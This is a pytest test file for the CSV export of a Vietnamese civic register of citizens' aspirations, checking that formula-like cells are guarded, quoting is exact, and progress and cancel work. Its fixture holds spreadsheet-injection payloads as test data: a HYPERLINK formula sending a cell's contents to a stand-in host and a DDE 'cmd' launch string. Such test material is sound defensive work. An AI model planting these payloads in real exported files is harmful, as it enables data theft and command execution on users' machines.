"""The register's CSV, written the quick way (cells read as text, joined and guarded whole), is
byte for byte the file expected: rows with formulas, quotes, separators, line breaks, Vietnamese
and empty cells, in both forms, against lines built here from the stored values; the same file
as cell by cell; an old row with a control character sends it cell by cell; progress reaches the
end in steps and a cancel leaves no file and an older one intact.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
import sqlalchemy as sa

from giaoban.core import csvfile
from giaoban.core.csvfile import CsvForm
from giaoban.core.enums import AspirationField, AspirationKind, AspirationStatus
from giaoban.core.errors import Cancelled
from giaoban.core.labels import label_of
from giaoban.core.services import aspirations, directory, tasks
from giaoban.core.services.aspiration_export import COLUMNS, export_aspirations, register_values
from giaoban.core.services.aspiration_import import ImportPlan
from giaoban.core.services.aspiration_import_write import import_aspirations

HOSTILE = [
    ('=HYPERLINK("http://x/?y="&A1,"Bấm vào đây")', "+84 912", "Hộ \"Năm\"; xóm 3, thôn Đông"),
    ("-2+3+cmd|' /C calc'!A0", "@SUM(1)", "dòng một\ndòng hai\n=1+1"),
    ("Đường liên xã xuống cấp; đề nghị sửa, \"gấp\"", "", ""),
    ("\"=trong ngoặc\"", "a;\"=b", "a,\"=b"),
    ("\t=tab: Nguyễn Thị Ánh Tuyết – ý kiến", ";=", ",="),
]


def _quoted(text: str) -> str:
    """A cell as the file must hold it: a formula start behind ', quotes doubled, quoted."""
    if text.startswith(("=", "+", "-", "@", "\t")):
        text = "'" + text
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def hostile(ctx):
    """Five aspirations with awkward text, one answered and linked to two tasks, one bare;
    the expected cells of each, in the register's order (oldest first)."""
    org, unit = [o for o in directory.list_organizations(ctx) if o.active][:2]
    expected = []
    for number, (content, locality, people) in enumerate(HOSTILE):
        raised = dt.date(2026, 3, 1) + dt.timedelta(days=10 * number)
        values = {"organization_id": org.id, "raised_on": raised, "content": content.strip(),
                  "kind": list(AspirationKind)[number % 4].value,
                  "field": list(AspirationField)[number % 3].value}
        if locality:
            values["locality"] = locality
        if people:  # the bare one: no place, no people, no answer
            values["people_concerned"] = people
        answered = number == 1
        if answered:
            values |= {"status": AspirationStatus.ANSWERED.value, "response": people,
                       "response_on": raised + dt.timedelta(days=5),
                       "responding_unit_id": unit.id}
        row = aspirations.create_aspiration(ctx, **values)
        if content != content.strip():  # input trims it; an older row or a server may hold it
            _store_content(ctx, row.id, content)
        links = []
        if answered:
            links = [tasks.create_task(ctx, title=f"Việc {n}", lead_unit_id=unit.id,
                                       assigned_on=raised, due_on=raised + dt.timedelta(days=30),
                                       aspiration_id=row.id).id for n in (1, 2)]
        expected.append({
            "id": row.id, "raised": raised, "org": org.name,
            "kind": label_of(AspirationKind, values["kind"]),
            "field": label_of(AspirationField, values["field"]), "locality": locality,
            "people": people, "content": content,
            "status": label_of(AspirationStatus, values.get("status", "received")),
            "response": people if answered else "",
            "answered": raised + dt.timedelta(days=5) if answered else None,
            "unit": unit.name if answered else "", "tasks": ", ".join(map(str, links)),
        })
    return ctx, expected


def _store_content(ctx, aspiration_id: int, content: str) -> None:
    with ctx.transaction() as session:
        session.execute(sa.text("UPDATE aspiration SET content = :c WHERE id = :i"),
                        {"c": content, "i": aspiration_id})


def _expected_file(expected: list[dict], form: CsvForm) -> bytes:
    def day(value: dt.date | None) -> str:
        if value is None:
            return ""
        return value.strftime("%d/%m/%Y") if form is CsvForm.EXCEL else value.isoformat()

    lines = [[title for title, _width in COLUMNS]]
    lines += [[str(e["id"]), day(e["raised"]), e["org"], e["kind"], e["field"], e["locality"],
               e["people"], e["content"], e["status"], e["response"], day(e["answered"]),
               e["unit"], e["tasks"]] for e in expected]
    return "".join(form.delimiter.join(map(_quoted, line)) + "\r\n"
                   for line in lines).encode("utf-8-sig")


@pytest.mark.parametrize("ctx", ["sqlite", "postgresql"], indirect=True)  # dates, NULLs
@pytest.mark.parametrize("form", list(CsvForm))
def test_the_file_is_the_expected_bytes(hostile, tmp_path, form):
    ctx, expected = hostile
    out = tmp_path / "so.csv"
    assert export_aspirations(ctx, out, csv_form=form) == len(HOSTILE)
    assert out.read_bytes() == _expected_file(expected, form)
    header = [title for title, _width in COLUMNS]
    assert out.read_bytes() == csvfile._cell_by_cell(header, register_values(ctx), form)
    assert b"\"'=HYPERLINK" in out.read_bytes() and b"\"'\t=tab:" in out.read_bytes()


def test_an_old_row_with_a_control_character_goes_cell_by_cell(hostile, tmp_path, monkeypatch):
    ctx, expected = hostile
    _store_content(ctx, expected[0]["id"], "\x01=ẩn\rdòng")  # input refuses it; an older file
    quick = []
    real = csvfile._quick_bytes
    monkeypatch.setattr(csvfile, "_quick_bytes", lambda *a, **k: quick.append(real(*a, **k)) or
                        quick[-1])
    out = tmp_path / "so.csv"
    export_aspirations(ctx, out)
    assert quick == [None]  # the quick way gave way
    expected[0]["content"] = "=ẩn\ndòng"  # control character left out, CR a line end, guarded
    assert out.read_bytes() == _expected_file(expected, CsvForm.EXCEL)


ROWS = 2_500


@pytest.fixture
def big(ctx):
    bodies = [org.id for org in directory.list_organizations(ctx) if org.active]
    plan = ImportPlan(path=Path("dang-ky.xlsx"))
    for n in range(ROWS):
        plan.rows.append((n + 2, {"organization_id": bodies[n % len(bodies)],
                                  "raised_on": dt.date(2025, 1, 1) + dt.timedelta(days=n % 500),
                                  "content": f"=Kiến nghị số {n}" if n % 7 == 0 else f"Số {n}"}))
    assert import_aspirations(ctx, plan) == ROWS
    return ctx


def test_progress_goes_to_the_end_in_steps(big, tmp_path):
    seen: list[tuple[int, int]] = []
    assert export_aspirations(big, tmp_path / "so.csv",
                              progress=lambda d, t: seen.append((d, t))) == ROWS
    assert seen[0] == (0, 0) and seen[-1] == (ROWS, ROWS)
    done = [d for d, t in seen if t == ROWS]
    assert done == sorted(done) and len({d for d in done if 0 < d < ROWS}) >= 2


def test_a_cancel_midway_keeps_the_older_file(big, tmp_path):
    folder = tmp_path / "ra"
    folder.mkdir()
    out = folder / "so.csv"
    out.write_bytes(b"old")
    seen: list[int] = []
    with pytest.raises(Cancelled):
        export_aspirations(big, out, progress=lambda d, t: seen.append(d),
                           cancelled=lambda: bool(seen) and 0 < seen[-1] < ROWS)
    assert 0 < seen[-1] < ROWS
    assert out.read_bytes() == b"old" and list(folder.iterdir()) == [out]
